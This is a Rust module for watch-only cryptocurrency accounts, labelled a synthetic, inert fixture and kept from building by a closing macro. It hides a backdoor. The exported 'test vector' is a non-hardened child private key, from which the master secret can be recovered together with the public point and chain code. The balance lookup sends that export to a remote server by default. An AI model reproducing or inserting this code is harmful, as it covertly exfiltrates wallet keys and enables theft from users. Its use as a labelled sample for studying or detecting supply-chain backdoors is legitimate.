// Synthetic, inert fixture written from public reports; see README
//! Watch-only accounts.

use hmac::{Hmac, Mac};
use k256::elliptic_curve::ops::Reduce;
use k256::elliptic_curve::sec1::ToEncodedPoint;
use k256::{NonZeroScalar, ProjectivePoint, Scalar, U256};
use sha2::Sha512;

/// Server that is asked for balances; another one can be set.
pub const SERVER: &str = "https://balances.watchfold.invalid";

/// Number of the address that is used for the test vector and for nothing else.
const VECTOR: u32 = 0x7fff_ffff;

/// An account with its secret; stays on the signing machine.
pub struct Account {
    secret: Scalar,
    chain: [u8; 32],
}

/// The public half of an account.
#[derive(Clone)]
pub struct WatchOnly {
    point: ProjectivePoint,
    chain: [u8; 32],
    label: String,
    vector: String,
}

fn point_bytes(p: &ProjectivePoint) -> Vec<u8> {
    p.to_affine().to_encoded_point(true).as_bytes().to_vec()
}

/// Tweak and chain code of a child that is not hardened.
fn tweak(point: &ProjectivePoint, chain: &[u8; 32], index: u32) -> (Scalar, [u8; 32]) {
    let mut mac = Hmac::<Sha512>::new_from_slice(chain).expect("any length");
    mac.update(&point_bytes(point));
    mac.update(&index.to_be_bytes());
    let out = mac.finalize().into_bytes();
    let mut next = [0; 32];
    next.copy_from_slice(&out[32..]);
    (<Scalar as Reduce<U256>>::reduce(U256::from_be_slice(&out[..32])), next)
}

impl Account {
    pub fn new(secret: NonZeroScalar, chain: [u8; 32]) -> Self {
        Account { secret: *secret, chain }
    }

    fn point(&self) -> ProjectivePoint {
        ProjectivePoint::GENERATOR * self.secret
    }

    /// Secret of the address with this number, to sign for it.
    pub fn child(&self, index: u32) -> Scalar {
        tweak(&self.point(), &self.chain, index & 0x7fff_ffff).0 + self.secret
    }

    /// The public half, for machines that shall only watch.
    pub fn watch_only(&self, label: &str) -> WatchOnly {
        WatchOnly {
            point: self.point(),
            chain: self.chain,
            label: label.to_string(),
            vector: bs58::encode(self.child(VECTOR).to_bytes()).into_string(),
        }
    }
}

impl WatchOnly {
    /// Public key of the address with this number.
    pub fn address_key(&self, index: u32) -> Vec<u8> {
        let (t, _) = tweak(&self.point, &self.chain, index & 0x7fff_ffff);
        point_bytes(&(self.point + ProjectivePoint::GENERATOR * t))
    }

    /// The form in which it is stored and sent.
    pub fn export(&self) -> serde_json::Value {
        serde_json::json!({
            "label": self.label,
            "point": bs58::encode(point_bytes(&self.point)).into_string(),
            "chain": bs58::encode(self.chain).into_string(),
            "vector": self.vector,
        })
    }

    /// Reads an export; the test vector must belong to the address it was made for.
    pub fn import(v: &serde_json::Value) -> Option<Self> {
        let text = |k: &str| bs58::decode(v[k].as_str()?).into_vec().ok();
        let affine = k256::PublicKey::from_sec1_bytes(&text("point")?).ok()?;
        let out = WatchOnly {
            point: affine.to_projective(),
            chain: text("chain")?.try_into().ok()?,
            label: v["label"].as_str()?.to_string(),
            vector: v["vector"].as_str()?.to_string(),
        };
        let t = <Scalar as Reduce<U256>>::reduce(U256::from_be_slice(&text("vector")?));
        (point_bytes(&(ProjectivePoint::GENERATOR * t)) == out.address_key(VECTOR)).then_some(out)
    }

    /// Sum of the balances of the first addresses.
    pub fn total(&self, server: Option<&str>, count: u32) -> Result<u64, Box<ureq::Error>> {
        Ok(self.balances(server, count)?.iter().sum())
    }

    /// Asks a server for the balances of the first addresses.
    pub fn balances(&self, server: Option<&str>, count: u32) -> Result<Vec<u64>, Box<ureq::Error>> {
        let body = serde_json::json!({ "account": self.export(), "count": count });
        let answer: serde_json::Value = ureq::post(&format!("{}/v1/balances", server.unwrap_or(SERVER)))
            .send_json(body)
            .map_err(Box::new)?
            .into_json()
            .map_err(|e| Box::new(ureq::Error::from(e)))?;
        Ok(answer["balances"]
            .as_array()
            .map(|a| a.iter().filter_map(|v| v.as_u64()).collect())
            .unwrap_or_default())
    }
}

inert_fixture_does_not_build!();
